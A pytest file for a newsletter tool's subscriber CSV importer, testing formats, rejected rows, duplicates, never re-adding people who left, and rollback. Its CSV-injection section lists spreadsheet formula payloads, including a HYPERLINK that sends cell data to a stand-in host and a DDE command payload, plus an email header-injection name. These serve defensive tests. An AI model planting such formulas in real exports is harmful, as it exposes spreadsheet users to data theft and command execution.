"""Importing subscriber CSVs: formats, column aliases, rejects, duplicates, the suppression
rules, dry runs and atomicity. Each case is a small CSV written here."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from sqlalchemy import func, select

from newsletter import subscribers as subs
from newsletter.csvsafe import SafeWriter, neutralise, restore
from newsletter.errors import ImportFileError, ListNotFound
from newsletter.store import schema
from newsletter.subscriber_file import SubscriberFile


@pytest.fixture(autouse=True)
def _elsewhere(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The working folder is not the folder the CSV files are written to, so a test sees
    where the rejected rows go (the current folder, never beside the input)."""
    here = tmp_path / "here"
    here.mkdir()
    monkeypatch.chdir(here)
    return here


@pytest.fixture
def csvfile(tmp_path: Path):
    """csvfile(text, name=..., bom=False, crlf=False) -> Path, written byte for byte."""

    def _make(text: str, name: str = "readers.csv", *, bom: bool = False, crlf: bool = False):
        if crlf:
            text = text.replace("\n", "\r\n")
        data = text.encode("utf-8")
        if bom:
            data = b"\xef\xbb\xbf" + data
        path = tmp_path / name
        path.write_bytes(data)
        return path

    return _make


def _members(store, list_name=None) -> dict[str, tuple[str, str, dict]]:
    return {
        m.email: (m.name, m.status, m.attributes)
        for m in subs.iter_members(store, list_name)
    }


def _counts(summary) -> tuple[int, int, int, int, int]:
    return (summary.added, summary.updated, summary.unchanged, summary.kept_out, summary.rejected)


def _table_sizes(store) -> dict[str, int]:
    with store.read() as conn:
        return {
            t.name: conn.execute(select(func.count()).select_from(t)).scalar_one()
            for t in schema.metadata.sorted_tables
        }


# -- formats and columns ----------------------------------------------------------------------


def test_a_mailchimp_export(store, csvfile):
    path = csvfile(
        "Email Address,First Name,Last Name,MEMBER_RATING,OPTIN_TIME,TAGS\n"
        "ann@example.com,Ann,Berg,2,2025-01-03 10:00:00,\"vip,early\"\n"
        "bob@example.org,Bob,,1,,\n"
    )
    summary = subs.import_csv(store, path)
    assert _counts(summary) == (2, 0, 0, 0, 0)
    assert _members(store) == {
        "ann@example.com": (
            "Ann Berg",
            "active",
            {"first_name": "Ann", "last_name": "Berg", "MEMBER_RATING": "2",
             "OPTIN_TIME": "2025-01-03 10:00:00", "TAGS": "vip,early"},
        ),
        "bob@example.org": ("Bob", "active", {"first_name": "Bob", "MEMBER_RATING": "1"}),
    }


@pytest.mark.parametrize(
    "header, row",
    [
        ("email,name", "ann@example.com,Ann Berg"),  # Substack, plain
        ("email,notes,metadata,tags,creation_date,subscriber_type",  # Buttondown
         "ann@example.com,,{},,2025-01-01,regular"),
        ("id,email,name,note,subscribed_to_emails,created_at,labels",  # Ghost
         "6630,ann@example.com,Ann Berg,,true,2025-01-01T00:00:00Z,"),
        ("uuid,email,name,attributes,status,created_at", "u-1,ann@example.com,Ann Berg,{},enabled,"),
        ("E-mail,Full Name", "ann@example.com,Ann Berg"),
        ("Subscriber Email;Name", "ann@example.com;Ann Berg"),
    ],
)
def test_the_common_exports_are_understood(store, csvfile, header, row):
    subs.import_csv(store, csvfile(f"{header}\n{row}\n"))
    members = _members(store)
    assert list(members) == ["ann@example.com"]
    name, status, _ = members["ann@example.com"]
    assert status == "active"
    if "name" in header.lower():
        assert name == "Ann Berg"


def test_listmonk_attributes_merge_into_ours(store, csvfile):
    path = csvfile(
        'email,name,attributes,status\n'
        'ann@example.com,Ann,"{""city"": ""Oslo"", ""plan"": ""pro""}",enabled\n'
        'bob@example.com,Bob,not json,enabled\n'
    )
    subs.import_csv(store, path)
    members = _members(store)
    assert members["ann@example.com"][2] == {"city": "Oslo", "plan": "pro"}
    assert members["bob@example.com"][2] == {"attributes": "not json"}


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_any_of_the_usual_delimiters(store, csvfile, delimiter):
    rows = ["email", "name", "city"], ["ann@example.com", "Berg, Ann", "Oslo"]
    text = "\n".join(delimiter.join(
        f'"{cell}"' if delimiter in cell or "," in cell else cell for cell in row
    ) for row in rows) + "\n"
    subs.import_csv(store, csvfile(text))
    assert _members(store) == {"ann@example.com": ("Berg, Ann", "active", {"city": "Oslo"})}


def test_an_excel_sep_line_names_the_delimiter(store, csvfile):
    path = csvfile("sep=;\nEmail;Name;Note\nann@example.com;Ann;a,b\n", bom=True, crlf=True)
    assert subs.import_csv(store, path).added == 1
    assert _members(store) == {"ann@example.com": ("Ann", "active", {"Note": "a,b"})}


def test_utf8_with_a_bom_and_crlf_line_ends(store, csvfile):
    path = csvfile("Email Address,Name\nann@example.com,Åse Ødegård\n", bom=True, crlf=True)
    summary = subs.import_csv(store, path)
    assert _counts(summary) == (1, 0, 0, 0, 0)
    assert _members(store) == {"ann@example.com": ("Åse Ødegård", "active", {})}


def test_quoted_fields_with_newlines_are_one_row_folded_onto_one_line(store, csvfile):
    path = csvfile(
        'email,name,notes\n'
        'ann@example.com,Ann,"met at the fair\r\nwants the pricing issue"\n'
        'bob@example.com,Bob,\n'
        '"cid@example.com","Cid\nEvil \x0b Bcc: x@example.org",x\n'
        'dan@example.com,Dan,after\n'
    )
    summary = subs.import_csv(store, path)
    assert _counts(summary) == (4, 0, 0, 0, 0)
    members = _members(store)
    assert members["ann@example.com"][2] == {"notes": "met at the fair wants the pricing issue"}
    assert members["cid@example.com"][0] == "Cid Evil Bcc: x@example.org"  # one header line
    assert members["dan@example.com"] == ("Dan", "active", {"notes": "after"})


def test_a_mailchimp_name_with_a_quoted_line_break_keeps_the_reader(store, csvfile):
    # Mailchimp writes a name edited with Alt+Enter in a spreadsheet as a quoted CRLF.
    path = csvfile(
        "Email Address,First Name,Last Name,Address\r\n"
        '"ann@example.com","Ann\r\nMarie","Berg\u2028","Storgata 1\r\n0155 Oslo"\r\n'
        '"bob@example.com","Bob\t\x07",,\r\n'
    )
    summary = subs.import_csv(store, path)
    assert _counts(summary) == (2, 0, 0, 0, 0) and summary.rejected_path is None
    assert _members(store) == {
        "ann@example.com": (
            "Ann Marie Berg",
            "active",
            {"first_name": "Ann Marie", "last_name": "Berg", "Address": "Storgata 1 0155 Oslo"},
        ),
        "bob@example.com": ("Bob", "active", {"first_name": "Bob"}),
    }


def test_a_name_that_is_still_unfit_for_a_header_after_folding_is_rejected(store, csvfile):
    path = csvfile("email,name\nann@example.com,Ann\nbob@example.com," + "B" * 201 + "\n")
    summary = subs.import_csv(store, path)
    assert _counts(summary) == (1, 0, 0, 0, 1)
    assert "longer than 200 characters" in summary.rejections[0].reason


def test_a_file_without_a_header(store, csvfile):
    subs.import_csv(store, csvfile("ann@example.com\nbob@example.com\n"))
    assert set(_members(store)) == {"ann@example.com", "bob@example.com"}


def test_a_two_column_file_without_a_header_has_names(store, csvfile):
    subs.import_csv(store, csvfile("Ann Berg,ann@example.com\nBob,bob@example.com\n"))
    assert _members(store)["ann@example.com"][0] == "Ann Berg"


def test_international_domains_and_names(store, csvfile):
    subs.import_csv(store, csvfile("email,name\nåse@bücher.example,Åse\nli@例え.jp,李\n"))
    assert set(_members(store)) == {"åse@bücher.example", "li@例え.jp"}


def test_email_column_names_the_column(store, csvfile):
    path = csvfile("who,where\nAnn,ann@example.com\n")
    with pytest.raises(ImportFileError) as caught:
        subs.import_csv(store, path)
    message = str(caught.value)
    assert "no email column" in message and "'who', 'where'" in message
    assert "--email-column" in message
    summary = subs.import_csv(store, path, email_column="Where")
    assert summary.added == 1
    assert _members(store)["ann@example.com"][2] == {"who": "Ann"}


def test_an_email_column_that_is_not_there(store, csvfile):
    with pytest.raises(ImportFileError, match=r"no column named 'mail' \(columns found: 'email'"):
        subs.import_csv(store, csvfile("email\nann@example.com\n"), email_column="mail")


# -- rejects ----------------------------------------------------------------------------------


def test_invalid_rows_are_reported_and_written_aside_while_valid_rows_go_in(store, csvfile):
    path = csvfile(
        "email,name,status\n"
        "ann@example.com,Ann,\n"
        "bob@,Bob,\n"
        ",Nobody,\n"
        "cid@example.com,Cid,sleeping\n"
        "dan@example.com,Dan,\n"
    )
    summary = subs.import_csv(store, path)
    assert _counts(summary) == (2, 0, 0, 0, 3)
    assert [(r.row, r.reason.split(":")[0]) for r in summary.rejections] == [
        (3, "'bob@' is not a valid email address"),
        (4, "no email address"),
        (5, "unknown status 'sleeping'; use active, pending, unsubscribed, bounced or complained"),
    ]
    assert summary.rejected_path == Path.cwd() / "readers.rejected.csv"
    with summary.rejected_path.open(encoding="utf-8", newline="") as f:
        rows = list(csv.reader(f))
    assert rows[0] == ["rejected_row", "rejected_reason", "email", "name", "status"]
    assert [r[0] for r in rows[1:]] == ["3", "4", "5"]
    assert rows[1][2:] == ["bob@", "Bob", ""]
    assert set(_members(store)) == {"ann@example.com", "dan@example.com"}


def test_a_fixed_rejected_file_imports_cleanly(store, csvfile, tmp_path):
    path = csvfile("email,name\nann@example.com,Ann\nbob@exmple,Bob\n")
    summary = subs.import_csv(store, path)
    fixed = summary.rejected_path.read_text(encoding="utf-8").replace("bob@exmple", "bob@example.com")
    again = subs.import_csv(store, csvfile(fixed, "fixed.csv"))
    assert _counts(again) == (1, 0, 0, 0, 0)
    assert _members(store)["bob@example.com"] == ("Bob", "active", {})


def test_a_stale_rejected_file_is_removed_when_nothing_is_rejected(store, csvfile):
    path = csvfile("email\nann@\n")
    assert subs.import_csv(store, path).rejected == 1
    stale = Path.cwd() / "readers.rejected.csv"
    assert stale.exists()
    csvfile("email\nann@example.com\n")
    assert subs.import_csv(store, path).rejected_path is None
    assert not stale.exists()


def test_rejected_rows_go_to_the_current_folder_not_beside_a_read_only_input(
    store, tmp_path, _elsewhere
):
    theirs = tmp_path / "theirs"
    theirs.mkdir()
    path = theirs / "readers.csv"
    path.write_text("email,name\nann@example.com,Ann\nbob@,Bob\n", encoding="utf-8")
    theirs.chmod(0o555)
    try:
        summary = subs.import_csv(store, path)
    finally:
        theirs.chmod(0o755)
    assert _counts(summary) == (1, 0, 0, 0, 1)
    assert summary.rejected_path == _elsewhere / "readers.rejected.csv"
    assert summary.rejected_path.read_text(encoding="utf-8").splitlines()[1].startswith('"3",')
    assert sorted(p.name for p in theirs.iterdir()) == ["readers.csv"]


def test_rejected_rows_go_to_the_file_named(store, csvfile, tmp_path):
    path = csvfile("email\nann@\n")
    named = tmp_path / "fix-me.csv"
    summary = subs.import_csv(store, path, rejects=named)
    assert summary.rejected_path == named and named.exists()
    assert not (Path.cwd() / "readers.rejected.csv").exists()
    with pytest.raises(ImportFileError, match="is the file being imported"):
        subs.import_csv(store, path, rejects=path)
    assert path.read_text(encoding="utf-8") == "email\nann@\n"


def test_an_unwritable_place_for_the_rejected_rows_is_one_error_and_nothing_changes(
    store, csvfile, tmp_path
):
    path = csvfile("email\nann@example.com\nbob@\n")
    before = _table_sizes(store)
    with pytest.raises(ImportFileError) as caught:
        subs.import_csv(store, path, rejects=tmp_path / "no-such-folder" / "rejects.csv")
    message = str(caught.value)
    assert "cannot write the rejected rows there" in message and "--rejects FILE" in message
    assert "nothing was imported" in message and "\n" not in message
    assert _table_sizes(store) == before


# -- spreadsheet formulas (CSV injection) -----------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "  =1+2",
    "Ann;=1+2",
    "Ann, @SUM(1)",
    'Ann"=1+2',
    "Ann'-1",
    "\tTabbed",
    "\r=1",
    "line\n+1",
    "'=already quoted",
]
HARMLESS = ["Ann Berg", "Anne-Marie", "ann+news@example.com", "'Tis me", "2025-01-03", "", "1-2"]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_cell_a_spreadsheet_would_run_gets_a_quote_in_front(value):
    assert neutralise(value) == "'" + value
    assert restore(neutralise(value)) == value


@pytest.mark.parametrize("value", HARMLESS)
def test_a_harmless_cell_is_written_as_it_is(value):
    assert neutralise(value) == value
    assert restore(value) == value


def test_every_cell_is_quoted_and_formulas_are_neutralised():
    out = io.StringIO()
    SafeWriter(out, lineterminator="\n").writerow(["=1+2", "Ann", 3, None, "a;=b"])
    assert out.getvalue() == '"\'=1+2","Ann","3","","\'a;=b"\n'


def test_rejected_rows_are_neutralised_and_import_back_as_they_were(store, csvfile):
    path = csvfile(
        "email,name,city\n"
        'bad@,"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",@SUM(1+1)\n'
        "-ann@example.com,+cmd|calc,Oslo\n"
    )
    summary = subs.import_csv(store, path)
    assert _counts(summary) == (1, 0, 0, 0, 1)
    text = summary.rejected_path.read_text(encoding="utf-8")
    assert text.splitlines()[1] == (
        '"2","\'bad@\' is not a valid email address: There must be something after the @-sign.",'
        '"bad@","\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")","\'@SUM(1+1)"'
    )
    fixed = csvfile(text.replace('"bad@"', '"bad@example.com"'), "fixed.csv")
    subs.import_csv(store, fixed)
    members = _members(store)
    assert members["bad@example.com"] == (
        '=HYPERLINK("http://evil.example/?x="&A1,"click")', "active", {"city": "@SUM(1+1)"}
    )
    assert members["-ann@example.com"] == ("+cmd|calc", "active", {"city": "Oslo"})


# -- duplicates and updates -------------------------------------------------------------------


def test_duplicates_in_the_file_are_merged(store, csvfile):
    path = csvfile(
        "email,name,city\n"
        "ann@example.com,Ann,Oslo\n"
        "ANN@example.com,Ann Berg,\n"
        "bob@example.com,Bob,\n"
    )
    summary = subs.import_csv(store, path)
    assert _counts(summary) == (2, 0, 0, 0, 0)
    assert summary.duplicates == 1
    assert summary.rows == 4 - 1
    # The last row wins for what it fills in (its spelling, its name); the blank city keeps Oslo.
    assert _members(store)["ANN@example.com"] == ("Ann Berg", "active", {"city": "Oslo"})


def test_duplicates_far_apart_are_merged_too(store, csvfile):
    lines = ["email,name"] + [f"r{i}@example.com,R{i}" for i in range(10)] + ["R3@example.com,Three"]
    summary = subs.import_csv(store, csvfile("\n".join(lines) + "\n"), chunk_size=4)
    assert (summary.added, summary.duplicates, summary.rows) == (10, 1, 11)
    assert _members(store)["R3@example.com"][0] == "Three"  # the last row, as in one chunk
    assert len(_members(store)) == 10


@pytest.mark.parametrize("chunk_size", [500, 1], ids=["one chunk", "a chunk per row"])
def test_the_last_row_for_an_address_wins_every_field_but_the_stricter_status(
    store, csvfile, chunk_size
):
    """However far apart the rows are, the merge is the same: the later row's spelling,
    name and attributes (what it fills in), and the stricter status."""
    path = csvfile(
        "email,name,city,plan,status\n"
        "ann@example.com,Ann,Oslo,free,\n"
        "bob@example.com,Bob,Bergen,,\n"
        "cid@example.com,Cid,,,pending\n"
        "dan@example.com,Dan,,,active\n"
        "ANN@EXAMPLE.COM,Ann Berg,,pro,\n"
        "Bob@Example.com,,Tromsø,,\n"
        "cid@example.com,,,,active\n"
        "dan@example.com,,,,pending\n"
    )
    summary = subs.import_csv(store, path, chunk_size=chunk_size)
    assert (summary.added, summary.duplicates) == (4, 4)
    assert _members(store) == {
        "ANN@EXAMPLE.COM": ("Ann Berg", "active", {"city": "Oslo", "plan": "pro"}),
        "Bob@Example.com": ("Bob", "active", {"city": "Tromsø"}),
        "cid@example.com": ("Cid", "pending", {}),  # pending outranks active
        "dan@example.com": ("Dan", "pending", {}),
    }
    with store.read() as conn:
        confirmed = dict(conn.execute(
            select(schema.subscribers.c.email, schema.memberships.c.confirmed_at)
            .join(schema.memberships, schema.memberships.c.subscriber_id == schema.subscribers.c.id)
        ).all())
    assert confirmed["dan@example.com"] is None and confirmed["cid@example.com"] is None


def test_a_second_import_updates_what_changed_and_leaves_the_rest(store, csvfile):
    subs.import_csv(store, csvfile("email,name,city\nann@example.com,Ann,Oslo\nbob@example.com,Bob,\n"))
    summary = subs.import_csv(
        store,
        csvfile("email,name,city\nann@example.com,Ann,Bergen\nbob@example.com,,\ncid@example.com,Cid,\n"),
    )
    assert _counts(summary) == (1, 1, 1, 0, 0)
    members = _members(store)
    assert members["ann@example.com"][2] == {"city": "Bergen"}
    assert members["bob@example.com"][0] == "Bob"  # an empty cell does not erase a name


def test_an_import_confirms_pending_members_and_adds_known_people_to_a_new_list(store, csvfile):
    subs.create_list(store, "weekly")
    subs.add(store, "ann@example.com")  # pending on main
    subs.add(store, "bob@example.com", confirmed=True)  # on main only
    path = csvfile("email\nann@example.com\nbob@example.com\n")
    assert _counts(subs.import_csv(store, path)) == (0, 1, 1, 0, 0)
    assert _counts(subs.import_csv(store, path, list_name="weekly")) == (2, 0, 0, 0, 0)
    assert {e: s for e, (_, s, _) in _members(store).items()} == {
        "ann@example.com": "active", "bob@example.com": "active"
    }


# -- never resubscribing ----------------------------------------------------------------------


def test_reimporting_never_brings_back_anyone_who_left(store, csvfile):
    everyone = csvfile(
        "email,name\n"
        "stay@example.com,Stay\n"
        "left@example.com,Left\n"
        "bounced@example.com,Bounced\n"
        "complained@example.com,Complained\n"
        "forgotten@example.com,Forgotten\n"
    )
    assert subs.import_csv(store, everyone).added == 5
    subs.unsubscribe(store, "left@example.com")
    subs.suppress(store, "bounced@example.com", "bounced")
    subs.suppress(store, "complained@example.com", "complained")
    subs.forget(store, "forgotten@example.com")

    summary = subs.import_csv(store, everyone)
    assert _counts(summary) == (0, 0, 1, 4, 0)
    audience = [m.email for b in subs.iter_audience(store) for m in b]
    assert audience == ["stay@example.com"]
    assert {e: s for e, (_, s, _) in _members(store).items()} == {
        "stay@example.com": "active",
        "left@example.com": "unsubscribed",
        "bounced@example.com": "bounced",
        "complained@example.com": "complained",
    }
    # The forgotten address is not even stored again.
    with store.read() as conn:
        keys = conn.execute(select(schema.subscribers.c.email_key)).scalars().all()
    assert "forgotten@example.com" not in keys


def test_importing_into_another_list_keeps_suppressed_people_out(store, csvfile):
    subs.create_list(store, "weekly")
    subs.add(store, "ann@example.com", confirmed=True)
    subs.suppress(store, "ann@example.com", "complained")
    summary = subs.import_csv(store, csvfile("email\nann@example.com\n"), list_name="weekly")
    assert summary.kept_out == 1
    assert [m for b in subs.iter_audience(store, "weekly") for m in b] == []


@pytest.mark.parametrize(
    "text, status",
    [
        # Mailchimp's unsubscribed and cleaned exports
        ("Email Address,First Name,UNSUB_TIME,UNSUB_REASON\nann@example.com,Ann,2025-02-01 10:00:00,\n",
         "unsubscribed"),
        ("Email Address,First Name,CLEAN_TIME\nann@example.com,Ann,2025-02-01 10:00:00\n", "bounced"),
        # Buttondown, listmonk, Ghost, and this tool's own export
        ("email,subscriber_type\nann@example.com,unsubscribed\n", "unsubscribed"),
        ("email,name,status\nann@example.com,Ann,blocklisted\n", "unsubscribed"),
        ("email,name,subscribed_to_emails\nann@example.com,Ann,false\n", "unsubscribed"),
        ("email,status\nann@example.com,complained\n", "complained"),
    ],
)
def test_a_file_that_says_someone_left_keeps_them_out_now_and_later(store, csvfile, text, status):
    summary = subs.import_csv(store, csvfile(text, "left.csv"))
    assert _counts(summary) == (0, 0, 0, 1, 0)
    assert _members(store)["ann@example.com"][1] == status
    # A later import of an older export (where they were still subscribed) changes nothing.
    later = subs.import_csv(store, csvfile("email\nann@example.com\n", "old.csv"))
    assert _counts(later) == (0, 0, 0, 1, 0)
    assert [m for b in subs.iter_audience(store) for m in b] == []


def test_a_file_can_unsubscribe_an_active_member_but_never_the_reverse(store, csvfile):
    subs.add(store, "ann@example.com", confirmed=True)
    subs.import_csv(store, csvfile("email,status\nann@example.com,unsubscribed\n"))
    assert _members(store)["ann@example.com"][1] == "unsubscribed"
    summary = subs.import_csv(store, csvfile("email,status\nann@example.com,active\n"))
    assert summary.kept_out == 1
    assert _members(store)["ann@example.com"][1] == "unsubscribed"


def test_the_stricter_of_two_rows_for_one_address_wins(store, csvfile):
    path = csvfile("email,status\nann@example.com,unsubscribed\nann@example.com,active\n")
    summary = subs.import_csv(store, path)
    assert (summary.kept_out, summary.duplicates) == (1, 1)
    assert _members(store)["ann@example.com"][1] == "unsubscribed"


# -- dry runs, atomicity, bad input -----------------------------------------------------------


def test_a_dry_run_reports_the_same_summary_and_changes_nothing(store, csvfile):
    subs.add(store, "old@example.com", confirmed=True)
    subs.unsubscribe(store, "old@example.com")
    path = csvfile(
        "email,name\nann@example.com,Ann\nann@example.com,Ann B\nold@example.com,Old\nbad@,x\n"
    )
    before = _table_sizes(store)
    dry = subs.import_csv(store, path, dry_run=True)
    assert _table_sizes(store) == before
    assert not (Path.cwd() / "readers.rejected.csv").exists()
    assert dry.dry_run and dry.rejected_path is None
    real = subs.import_csv(store, path)
    assert _counts(dry) == _counts(real) == (1, 0, 0, 1, 1)
    assert dry.duplicates == real.duplicates == 1


def test_an_import_that_fails_halfway_changes_nothing(store, csvfile):
    # Past the first 64 KB (which are checked before anything starts), a row that is not
    # UTF-8: by then 3,000 good rows have been written inside the transaction.
    good = "".join(f"reader{i:05}@example.com,Reader {i}\n" for i in range(3000))
    path = csvfile("email,name\n" + good)
    path.write_bytes(path.read_bytes() + b"zed@example.com,Z\xff\xfe\n")
    assert path.stat().st_size > 64 * 1024
    before = _table_sizes(store)
    with pytest.raises(ImportFileError, match=r"row 3002: is not UTF-8"):
        subs.import_csv(store, path, chunk_size=500)
    assert _table_sizes(store) == before


def test_an_import_interrupted_halfway_changes_nothing(store, csvfile):
    path = csvfile("email\n" + "".join(f"r{i}@example.com\n" for i in range(100)))
    calls = []

    def interrupt(position: int) -> None:
        calls.append(position)
        if len(calls) == 3:
            raise KeyboardInterrupt

    before = _table_sizes(store)
    with pytest.raises(KeyboardInterrupt):
        subs.import_csv(store, path, chunk_size=10, progress=interrupt)
    assert _table_sizes(store) == before
    assert not (Path.cwd() / "readers.rejected.csv").exists()


def test_progress_reports_bytes_read_up_to_the_file_size(store, csvfile):
    path = csvfile("email\n" + "".join(f"r{i}@example.com\n" for i in range(100)))
    seen: list[int] = []
    subs.import_csv(store, path, chunk_size=25, progress=seen.append)
    assert seen == sorted(seen) and seen[-1] == path.stat().st_size


def test_an_unknown_list_is_refused_and_nothing_changes(store, csvfile):
    subs.create_list(store, "weekly")
    before = _table_sizes(store)
    with pytest.raises(ListNotFound, match=r"lists: weekly"):
        subs.import_csv(store, csvfile("email\nann@example.com\n"), list_name="daily")
    assert _table_sizes(store) == before


@pytest.mark.parametrize(
    "content, message",
    [
        (b"", "the file is empty"),
        (b"\n\n", "the file is empty"),
        (b"PK\x03\x04\x14\x00\x06\x00" + b"\x00" * 40, "is a spreadsheet, not CSV"),
        (b"\xff\xfee\x00m\x00a\x00i\x00l\x00", "is UTF-16 text"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "is not a CSV file"),
        (b"email,name\nann@example.com,\xc5se\n", "line 2: is not UTF-8 text"),
        (b"Dear reader, this is a letter.\nSell well\n", "no email column"),
    ],
)
def test_files_that_are_not_csv_fail_before_the_database_is_touched(
    tmp_path, content, message
):
    path = tmp_path / "list.csv"
    path.write_bytes(content)
    with pytest.raises(ImportFileError, match=message) as caught:
        SubscriberFile(path)
    assert str(caught.value).startswith(str(path))
    assert "\n" not in str(caught.value)


def test_a_missing_file_and_a_folder(tmp_path):
    with pytest.raises(ImportFileError, match="file not found; check the path"):
        SubscriberFile(tmp_path / "nope.csv")
    with pytest.raises(ImportFileError, match="is a folder"):
        SubscriberFile(tmp_path)


def test_the_summary_accounts_for_every_row(store, csvfile):
    subs.add(store, "old@example.com", confirmed=True)
    subs.add(store, "gone@example.com", confirmed=True)
    subs.unsubscribe(store, "gone@example.com")
    path = csvfile(
        "email,name\nold@example.com,Old\nold@example.com,Older\nnew@example.com,\n"
        "gone@example.com,\nbad,\n\n"
    )
    s = subs.import_csv(store, path)
    assert s.rows == s.added + s.updated + s.unchanged + s.kept_out + s.rejected + s.duplicates
    assert (s.rows, s.added, s.updated, s.kept_out, s.rejected, s.duplicates) == (5, 1, 1, 1, 1, 1)


def test_the_sample_reader_list_imports_cleanly(store):
    sample = Path(__file__).parent.parent / "samples" / "readers.csv"
    summary = subs.import_csv(store, sample)
    assert _counts(summary) == (len(sample.read_text(encoding="utf-8").splitlines()) - 1, 0, 0, 0, 0)
    assert 8 <= summary.added <= 12
    members = _members(store)
    assert all(e.rsplit("@", 1)[1] in ("example.com", "example.org", "example.net") for e in members)
    assert any(not name.isascii() for name, _, _ in members.values())
    assert not sample.with_name("readers.rejected.csv").exists()
    assert not (Path.cwd() / "readers.rejected.csv").exists()
